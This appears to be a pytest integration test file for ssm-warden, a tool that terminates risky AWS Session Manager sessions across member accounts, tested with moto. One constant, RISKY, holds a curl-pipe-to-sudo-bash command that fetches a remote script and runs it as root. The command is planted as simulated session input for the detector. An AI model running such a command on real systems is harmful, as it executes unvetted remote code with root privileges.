"""Organisation mode over two simulated accounts in one moto server (docs/organization.md).

A session lives in member account 111111111111; ssm-warden runs in the governance account
123456789012. The member's CloudTrail event arrives as the governance bus receives it, its session
log arrives as the Kinesis record the governance Logs destination writes, and everything ssm-warden
does in the member account goes through the member role it assumes there."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from typing import Any

import pytest

from ssm_warden.audit import read_audit
from ssm_warden.config import reset_settings
from ssm_warden.enforce.sink import QueueSink
from ssm_warden.enforce.sweeper import sweep
from ssm_warden.ledger.repository import SessionRepository
from ssm_warden.models.actions import ActionKind
from ssm_warden.models.audit import Decision
from ssm_warden.models.session import SessionState
from ssm_warden.policy.store import current_policy
from ssm_warden_local import moto_sessions
from tests.conftest import REGION
from tests.integration.org.conftest import EXTERNAL_ID, GOVERNANCE, MEMBER, MEMBER_ROLE, Organisation
from tests.unit.logs.builders import log_event, payload, streamed

PROMPT = "[ec2-user@ip-10-1-0-7 ~]$ "
RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
STREAM_ARN = f"arn:aws:kinesis:{REGION}:{GOVERNANCE}:stream/ssm-warden-SessionLogStream"


def kinesis_batch(*payloads: dict[str, Any]) -> dict[str, Any]:
    """What the Kinesis event source hands the command monitor: each record's data is the gzip'd
    subscription payload the Logs destination wrote (base64, as Lambda encodes record data)."""
    records = []
    for n, item in enumerate(payloads):
        data = item["awslogs"]["data"]
        assert base64.b64decode(data)[:2] == b"\x1f\x8b"  # the gzip stream, unchanged
        sequence = f"4960000000000000000000000000000000000000000000000000{n:04d}"
        records.append(
            {
                "kinesis": {
                    "kinesisSchemaVersion": "1.0",
                    "partitionKey": "member-logs",
                    "sequenceNumber": sequence,
                    "data": data,
                    "approximateArrivalTimestamp": 1_764_320_000.0 + n,
                },
                "eventSource": "aws:kinesis",
                "eventVersion": "1.0",
                "eventID": f"shardId-000000000000:{sequence}",
                "eventName": "aws:kinesis:record",
                "invokeIdentityArn": f"arn:aws:iam::{GOVERNANCE}:role/command-monitor",
                "awsRegion": REGION,
                "eventSourceARN": STREAM_ARN,
            }
        )
    return {"Records": records}


def member_log(session_id: str, *batches: list[str], target: str) -> dict[str, Any]:
    """The member account's session log stream, as its subscription filter sends it (each event
    names the session's target and principal, as the agent on the member's host writes them)."""
    principal = f"arn:aws:sts::{MEMBER}:assumed-role/Admin/alice"
    return payload(
        [
            log_event(i, streamed(lines, session_id, target=target, principal=principal), seconds=i)
            for i, lines in enumerate(batches)
        ],
        stream=session_id,
        owner=MEMBER,
    )


def assumed_roles(account: str) -> list[Any]:
    """The roles assumed into ``account`` (moto's STS backend: the server runs in this process)."""
    from moto.sts.models import sts_backends

    return list(sts_backends[account]["aws"].assumed_roles)


def test_a_member_session_is_recorded_from_its_forwarded_event_and_terminated_through_the_member_role(
    org: Organisation,
) -> None:
    # Given a prod host in the member account and a session someone started on it there
    instance = org.member_instance(Environment="prod")
    session_id = org.start_member_session(instance)
    # When the member's StartSession event reaches the governance account
    result = org.deliver_event(org.forwarded_start_event(session_id, instance))
    # Then the governance ledger holds the session under the member account, with the target's tags
    # read in the member account
    assert result["status"] == "applied"
    repo = SessionRepository()
    record = repo.get(MEMBER, REGION, session_id)
    assert record is not None
    assert record.state is SessionState.ACTIVE
    assert record.target_tags == {"Environment": "prod"}
    assert repo.get(GOVERNANCE, REGION, session_id) is None

    # When the member's session log shows a download piped into a root shell (through Kinesis)
    response = org.deliver_logs(
        kinesis_batch(
            member_log(
                session_id, [f"{PROMPT}uptime", " 09:01 up 3 days"], [f"{PROMPT}{RISKY}"], target=instance
            )
        )
    )
    assert response == {"batchItemFailures": []}
    # And the executor carries out what was queued
    org.run_executor()

    # Then the session is terminated in the member account's Session Manager...
    member_session = moto_sessions.get_session(MEMBER, REGION, session_id)
    assert member_session is not None
    assert member_session.status == "Terminated"
    # ...the governance account's Session Manager never held it...
    assert moto_sessions.get_session(GOVERNANCE, REGION, session_id) is None
    assert moto_sessions.call_count(GOVERNANCE, REGION, "TerminateSession") == 0
    # ...it was reached through the member role with the external id...
    assert any(
        r.role_arn == f"arn:aws:iam::{MEMBER}:role/{MEMBER_ROLE}" and r.external_id == EXTERNAL_ID
        for r in assumed_roles(MEMBER)
    )
    # ...and the ledger, the audit trail and the alert say ssm-warden terminated it, and why
    record = repo.get(MEMBER, REGION, session_id)
    assert record is not None
    assert record.state is SessionState.TERMINATED
    assert record.ended_by == "ssm-warden"
    assert any(r.decision is Decision.TERMINATION and r.account == MEMBER for r in read_audit(session_id))
    outcomes = [(a.kind, a.session.account if a.session else None, o) for a, o in org.notifier.delivered]
    assert (ActionKind.TERMINATE, MEMBER, "terminated") in outcomes


def test_the_sweeper_reconciles_each_listed_member_account_and_goes_on_past_an_unreachable_one(
    org: Organisation, monkeypatch: pytest.MonkeyPatch
) -> None:
    unreachable = "222222222222"
    monkeypatch.setenv("MEMBER_ACCOUNTS", f"{MEMBER},{unreachable}")
    reset_settings()
    # Given a member session whose StartSession event never arrived...
    missed = org.start_member_session(org.member_instance(Team="data"))
    # ...and one the ledger knows that the user has since left with `exit` (no API call)
    exited = org.start_member_session(org.member_instance(Team="web"))
    org.deliver_event(org.forwarded_start_event(exited, "i-0abc"))
    moto_sessions.end_session_from_host(MEMBER, REGION, exited)
    # ...and a member account where DescribeSessions is denied
    moto_sessions.inject_faults(unreachable, REGION, "DescribeSessions", ["AccessDeniedException"] * 4)
    # When the sweeper runs, past the grace period of the exited session (its event says 09:00)
    report = sweep(
        now=datetime(2026, 11, 28, 9, 10, tzinfo=UTC),
        account=GOVERNANCE,
        region=REGION,
        policy_state=current_policy(),
        sink=QueueSink(),
        time_left=lambda: 60.0,
    )
    # Then the missed session is in the ledger under the member account, with its target's tags,
    # and the exited one is closed
    repo = SessionRepository()
    found = repo.get(MEMBER, REGION, missed)
    assert found is not None
    assert found.discovered
    assert found.target_tags == {"Team": "data"}
    closed = repo.get(MEMBER, REGION, exited)
    assert closed is not None
    assert closed.state is SessionState.ENDED
    assert (report.discovered, report.closed) == (1, 1)
    # And the unreachable account is reported, not fatal
    assert report.reconciled_accounts == [GOVERNANCE, MEMBER]
    assert report.unreconciled_accounts == [unreachable]


def test_without_organisation_mode_a_member_session_is_never_reported_as_already_ended(
    org: Organisation, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a member session in the ledger, and a governance stack whose member role is not configured
    instance = org.member_instance(Environment="prod")
    session_id = org.start_member_session(instance)
    org.deliver_event(org.forwarded_start_event(session_id, instance))
    monkeypatch.delenv("MEMBER_ROLE_NAME")
    reset_settings()
    # When a termination for it goes through the executor
    org.deliver_logs(kinesis_batch(member_log(session_id, [f"{PROMPT}{RISKY}"], target=instance)))
    org.run_executor()
    # Then the session is still live in the member account, nothing was terminated in the governance
    # account under its id, and every attempt is in the audit trail as a failure (it ends in the DLQ)
    member_session = moto_sessions.get_session(MEMBER, REGION, session_id)
    assert member_session is not None
    assert member_session.status == "Connected"
    assert moto_sessions.call_count(GOVERNANCE, REGION, "TerminateSession") == 0
    failures = [r for r in read_audit(session_id) if r.decision is Decision.ACTION_FAILED]
    assert failures
    assert "MEMBER_ROLE_NAME" in (failures[0].outcome or "")
    record = SessionRepository().get(MEMBER, REGION, session_id)
    assert record is not None
    assert record.state is SessionState.ACTIVE
